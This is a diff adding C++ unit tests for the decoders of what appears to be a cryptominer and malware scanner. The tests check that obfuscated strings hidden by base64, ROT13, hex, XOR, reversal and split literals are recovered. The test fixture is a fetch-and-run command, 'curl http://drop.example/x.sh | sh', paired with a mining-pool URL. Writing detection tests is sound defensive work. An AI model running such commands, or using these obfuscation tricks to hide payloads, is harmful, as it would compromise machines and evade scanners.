@@ -1,0 +1,287 @@
+#include "inspect/decoders.h"
+
+#include <doctest/doctest.h>
+
+#include <algorithm>
+
+#include "inspect/decoders/worth.h"
+#include "inspect/decoders/xor.h"
+#include "support/encodings.h"
+
+using namespace minescan;
+using namespace minescan::inspect;
+
+namespace {
+
+const std::string kHidden = "curl http://drop.example/x.sh | sh # stratum+tcp://pool.example:3333";
+
+std::vector<Decoded> decoded(std::string_view text, ViewKind kind = ViewKind::script) {
+  Decoders decoders(kind);
+  std::vector<Decoded> found;
+  decoders.window({.bytes = as_bytes(text), .from = 0, .to = text.size()}, true, found);
+  return found;
+}
+
+// As a leaf shows it: windows of `size` new bytes with what lies before and after.
+std::vector<Decoded> in_windows(std::string_view text, ViewKind kind, std::size_t size) {
+  Decoders decoders(kind);
+  std::vector<Decoded> found;
+  for (std::size_t at = 0; at < text.size(); at += size) {
+    const std::size_t begin = at > 2048 ? at - 2048 : 0;
+    const std::size_t to = std::min(text.size(), at + size);
+    const std::size_t end = std::min(text.size(), to + 4096);
+    decoders.window(
+        {.bytes = as_bytes(text.substr(begin, end - begin)), .from = at - begin, .to = to - begin},
+        to == text.size(), found);
+  }
+  return found;
+}
+
+bool finds(std::string_view text, std::string_view name, std::string_view bytes) {
+  for (const Decoded& part : decoded(text)) {
+    if (part.name == name && part.bytes == bytes) return true;
+  }
+  return false;
+}
+
+std::string reversed(std::string text) { return {text.rbegin(), text.rend()}; }
+
+}  // namespace
+
+TEST_CASE("decoders: base64, plain, URL-safe, wrapped, and behind a spelled line end") {
+  CHECK(finds("echo " + test::base64_of(kHidden) + " | base64 -d", "base64", kHidden));
+  const std::string odd = "~~~?>?>>>>~~ " + kHidden + " ~~~>>>?>?";
+  std::string safe = test::base64_of(odd);
+  for (char& c : safe) c = c == '+' ? '-' : c == '/' ? '_' : c;
+  REQUIRE(safe != test::base64_of(odd));
+  CHECK(finds("x='" + safe + "'", "base64", odd));
+  const std::string lines = kHidden + "\n" + kHidden + "\n" + kHidden;
+  CHECK(finds("cat <<X\n" + test::base64_of(lines, 76) + "\nX\n", "base64", lines));
+  const std::string in_json = test::cut_up(test::base64_of(lines), 64, "\\n");
+  CHECK(finds("{\"a\": \"x\\n" + in_json + "\\n\"}", "base64", lines));
+  CHECK(finds("a = (\"" + test::cut_up(test::base64_of(lines), 60, "\"\n     \"") + "\")", "base64",
+              lines));
+}
+
+TEST_CASE("decoders: where a part lies is told by line and column") {
+  const auto found = decoded("one\ntwo\n x = '" + test::base64_of(kHidden) + "'\n");
+  REQUIRE(found.size() == 1);
+  CHECK(found[0].line == 3);
+  CHECK(found[0].column == 7);
+  CHECK(found[0].begin == 14);
+  CHECK(found[0].end == 14 + test::base64_of(kHidden).size());
+}
+
+TEST_CASE("decoders: base64 turned by ROT13, reversed, or split in four variables") {
+  const std::string plain = test::base64_of(kHidden);
+  CHECK(finds("x='" + test::rot13_of(plain) + "'", "rot13, base64", kHidden));
+  CHECK(finds("x='" + reversed(plain) + "'", "reversed, base64", kHidden));
+  const std::string twice = test::base64_of(kHidden + kHidden);
+  const std::size_t n = twice.size() / 4;
+  CHECK(finds("magic = '" + twice.substr(0, n) + "'\nlove = '" +
+                  test::rot13_of(twice.substr(n, n)) + "'\ngod = '" + twice.substr(2 * n, n) +
+                  "'\ndestiny = '" + test::rot13_of(twice.substr(3 * n)) + "'\n",
+              "base64 split in four", kHidden + kHidden));
+}
+
+TEST_CASE("decoders: hex and base32") {
+  CHECK(finds("x=" + test::each_byte(kHidden, "%02x"), "hex", kHidden));
+  CHECK(finds("x=0x" + test::each_byte(kHidden, "%02X") + ";", "hex", kHidden));
+  CHECK(finds("x='" + test::base32_of(kHidden) + "'", "base32", kHidden));
+}
+
+TEST_CASE("decoders: escapes and percent-encoding") {
+  CHECK(finds("x=\"" + test::each_byte(kHidden, "\\x%02x") + "\"", "escapes", kHidden));
+  CHECK(finds("x=\"" + test::each_byte(kHidden, "\\u%04x") + "\"", "escapes", kHidden));
+  CHECK(finds("x=\"" + test::each_byte(kHidden, "\\u{%x}") + "\"", "escapes", kHidden));
+  CHECK(finds("printf '" + test::each_byte(kHidden, "\\%03o") + "'", "escapes", kHidden));
+  CHECK(finds(R"(x="\x73tr\x61t\x75m")", "escapes", "stratum") == false);  // too few
+  CHECK(finds(R"(x="\x73\x74r\x61t\x75m")", "escapes", "stratum"));
+  CHECK(finds("x='" + test::each_byte(kHidden, "%%%02x") + "'", "percent", kHidden));
+  CHECK(finds("u=stratum%2Btcp%3A%2F%2Fpool.example%3A3333", "percent",
+              "u=stratum+tcp://pool.example:3333"));
+}
+
+TEST_CASE("decoders: joined literals") {
+  CHECK(finds("x = \"" + test::cut_up(kHidden, 5, "\" + \"") + "\";", "joined strings", kHidden));
+  CHECK(finds("x = '" + test::cut_up(kHidden, 5, "'+'") + "';", "joined strings", kHidden));
+  CHECK(finds("$x = '" + test::cut_up(kHidden, 5, "'.'") + "';", "joined strings", kHidden));
+  CHECK(finds("x = (\"" + test::cut_up(kHidden, 9, "\"\n     \"") + "\")", "joined strings",
+              kHidden));
+  CHECK(finds("eval 'xm''rig''-6.21'", "joined strings", "xmrig-6.21"));
+  CHECK(finds("x = ['" + test::cut_up(kHidden, 5, "', '") + "'].join('')", "joined strings",
+              kHidden));
+  CHECK(finds("x = ''.join([\"" + test::cut_up(kHidden, 5, "\",\"") + "\"])", "joined strings",
+              kHidden));
+  // What is no literal ends it; an empty literal between two others is not two of them.
+  CHECK(finds("x = 'stratum+' + 'tcp://' + host", "joined strings", "stratum+tcp://"));
+  CHECK(decoded("f('', 'b', \"\", a + b, 'c' + d)").empty());
+}
+
+TEST_CASE("decoders: character codes") {
+  const std::string list = test::cut_up(test::each_byte(kHidden, "%3u"), 3, ",");
+  CHECK(finds("x=String.fromCharCode(" + list + ")", "character codes", kHidden));
+  CHECK(finds("x=[" + test::cut_up(test::each_byte(kHidden, "0x%02x"), 4, ", ") + "]",
+              "character codes", kHidden));
+  CHECK(finds("x=[\n  " + test::cut_up(test::each_byte(kHidden, "%3u"), 3, ",\n  ") + "\n]",
+              "character codes", kHidden));
+  const std::string calls = test::each_byte(kHidden, "chr(%u)+") + "chr(10)";
+  CHECK(finds("x=" + calls, "character codes", kHidden + "\n"));
+  CHECK(decoded("x=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16]").empty());
+}
+
+TEST_CASE("decoders: reversed and turned addresses and literals") {
+  CHECK(finds("x = '" + reversed(kHidden) + "'", "reversed", kHidden));
+  CHECK(finds("rev <<< 3333:elpmaxe.loop//:pct+mutarts", "reversed",
+              "stratum+tcp://pool.example:3333"));
+  CHECK(finds("x = 'girmx/nib/'[::-1]", "reversed", "/bin/xmrig"));
+  CHECK(finds("x = \"girmx/nib/\".split(\"\").reverse().join(\"\")", "reversed", "/bin/xmrig"));
+  CHECK(finds("echo girmx/nib/ | rev | sh", "reversed", "/bin/xmrig"));
+  CHECK(finds("$x = strrev('girmx/nib/');", "reversed", "/bin/xmrig"));
+  CHECK(finds("x = '" + test::rot13_of(kHidden) + "'", "rot13", kHidden));
+}
+
+TEST_CASE("decoders: short texts that lie near one another come as one") {
+  const std::string text = "a: " + test::base64_of("pool.example.org:3333") +
+                           "\nb: " + test::base64_of("a-made-up-address-of-nobody") + "\n";
+  const auto found = decoded(text, ViewKind::config);
+  REQUIRE(found.size() == 1);
+  CHECK(found[0].bytes == "pool.example.org:3333\na-made-up-address-of-nobody");
+  const std::string apart = "a: " + test::base64_of("pool.example.org:3333") +
+                            std::string(5000, '\n') +
+                            "b: " + test::base64_of("a-made-up-address-of-nobody");
+  CHECK(decoded(apart, ViewKind::config).size() == 2);
+}
+
+TEST_CASE("decoders: what only looks encoded is nothing") {
+  for (const std::string& text :
+       {std::string("ThisIsALongCamelCaseNameThatGoesOnForEver and_one_in_snake_case_that_is_long"),
+        std::string("/usr/share/doc/some-package/examples/and/more/README"),
+        std::string(80, '-') + "\n" + std::string(80, '/'),
+        std::string("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
+        std::string("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"),
+        "data:image/png;base64," + test::base64_of("\x89PNG\r\n\x1a\n" + test::noise(3000, 1)),
+        "d09GMgABAAAAA" + test::base64_of(test::noise(3000, 2)),
+        "-----BEGIN CERTIFICATE-----\n" +
+            test::base64_of("\x30\x82\x03\x55" + test::noise(900, 3), 64) + "\n-----END",
+        std::string("{\"a\": \"b\", \"c\": [1, 2, 3], \"d\": \"e\"}\n"),
+        std::string("x = a + b; y = \"a\" + b; z = 'it''s'")}) {
+    CAPTURE(text.substr(0, 100));
+    CHECK(decoded(text).empty());
+  }
+}
+
+TEST_CASE("decoders: bytes of no known kind are told as such, and only when surely encoded") {
+  const std::string secret = "\x01\x02" + test::noise(200, 4);
+  const auto found = decoded("x='" + test::base64_of(secret) + "'");
+  REQUIRE(found.size() == 1);
+  CHECK(found[0].unknown);
+  CHECK(found[0].bytes == secret);
+  CHECK(decoded(test::base64_of(secret), ViewKind::binary).empty());
+}
+
+TEST_CASE("decoders: a megabyte of nothing, or of triggers, yields nothing and ends") {
+  for (const std::string_view unit :
+       {" ",   "a",     "A",           "=",       "\\",         "\\x",  "%",       "%4",
+        "\"",  "\"+",   "\"+\"",       "'' ",     "[",          "[1,",  "[[1",     "(1",
+        "//:", "c://",  "[::-1]",      ".join('", "].join('')", "chr(", "chr(1)+", "\n",
+        "0x",  "| rev", "magic = 'aB", "QUJD\n",  "\\u00",      "aB1"}) {
+    std::string text;
+    while (text.size() < 1'000'000) text += unit;
+    CAPTURE(unit);
+    for (const Decoded& part : decoded(text)) CHECK(part.bytes.size() <= 2 * text.size());
+    static_cast<void>(decoded(text, ViewKind::binary));
+  }
+  CHECK(decoded(test::noise(1'000'000, 5)).size() < 20);
+  CHECK(decoded("").empty());
+}
+
+TEST_CASE("decoders: XORed addresses in programs, under every key") {
+  for (unsigned key = 1; key < 256; ++key) {
+    const std::string bytes =
+        test::noise(3000, key) +
+        test::xored("\x01" + kHidden + "\x01", static_cast<unsigned char>(key)) +
+        test::noise(3000, key + 1);
+    bool found = false;
+    for (const Decoded& part : decoded(bytes, ViewKind::executable)) {
+      found = found || (part.bytes.find(kHidden) != std::string::npos &&
+                        part.name == test::format_text("xor 0x%02x", key));
+    }
+    CAPTURE(key);
+    CHECK(found);
+  }
+  CHECK(decoded(std::string(3000, '\0') + kHidden, ViewKind::executable).empty());
+  CHECK(decoded(test::xored(kHidden, 0x5a), ViewKind::script).empty());
+}
+
+TEST_CASE("decoders: it does not matter how windows are cut") {
+  std::string text;
+  for (std::uint32_t i = 0; i < 40; ++i) {
+    text += "x = \"" + test::base64_of(kHidden + std::to_string(i)) + "\"\n" +
+            std::string(1500 + i * 37, ' ') + "y = \"" + test::cut_up(kHidden, 5, "\" + \"") +
+            "\"\n" + std::string(1500 + i * 11, ' ');
+  }
+  const auto whole = decoded(text);
+  CHECK(whole.size() == 80);
+  std::string program;
+  for (std::uint32_t i = 0; i < 40; ++i) {
+    program += test::noise(1000 + i * 37, i) + std::string(1, '\0') +
+               test::base64_of(kHidden + std::to_string(i)) + std::string(3000, '\0') +
+               test::xored(kHidden, 0x33);
+  }
+  const auto all = decoded(program, ViewKind::executable);
+  CHECK(all.size() == 80);
+  for (const std::size_t size : {7u, 64u, 100u, 1000u, 4096u, 50'000u}) {
+    CAPTURE(size);
+    for (const bool script : {true, false}) {
+      auto cut = in_windows(script ? text : program,
+                            script ? ViewKind::script : ViewKind::executable, size);
+      const auto by_place = [](const Decoded& a, const Decoded& b) { return a.begin < b.begin; };
+      std::sort(cut.begin(), cut.end(), by_place);
+      auto expected = script ? whole : all;
+      std::sort(expected.begin(), expected.end(), by_place);
+      REQUIRE(cut.size() == expected.size());
+      for (std::size_t i = 0; i < cut.size(); ++i) {
+        CHECK(cut[i].begin == expected[i].begin);
+        CHECK(cut[i].line == expected[i].line);
+        CHECK(cut[i].bytes == expected[i].bytes);
+      }
+    }
+  }
+}
+
+TEST_CASE("decoders: texts longer than a block lose nothing and tell nothing twice") {
+  // A part lies across the end of the first block of 8 MiB, one goes over several blocks.
+  const std::size_t block = std::size_t{8} << 20;
+  const std::string part = "\"" + test::base64_of(kHidden) + "\"";
+  std::string text((block)-30, '\n');
+  text += part;
+  text += std::string(1000, ' ');
+  const std::string program =
+      "\x7f"
+      "ELF" +
+      test::noise(15'000'000, 6);
+  text += "'" + test::base64_of(program) + "'";
+  text += std::string(block, '\n') + part;
+  const auto found = in_windows(text, ViewKind::script, 1'000'000);
+  REQUIRE(found.size() == 3);
+  CHECK(found[0].bytes == kHidden);
+  CHECK(found[0].line == block - 30 + 1);
+  CHECK(found[1].bytes == program);
+  CHECK(!found[1].cut);
+  CHECK(found[2].bytes == kHidden);
+  CHECK(found[2].line == 2 * block - 30 + 1);
+}
+
+TEST_CASE("decoders: a part that is too long is cut, and says so") {
+  const std::string text = "'" +
+                           test::base64_of(
+                               "\x7f"
+                               "ELF" +
+                               test::noise(60'000'000, 7)) +
+                           "'";
+  const auto found = in_windows(text, ViewKind::script, 1'000'000);
+  REQUIRE(!found.empty());
+  CHECK(found[0].cut);
+  CHECK(found[0].bytes.size() > 20'000'000);
+}
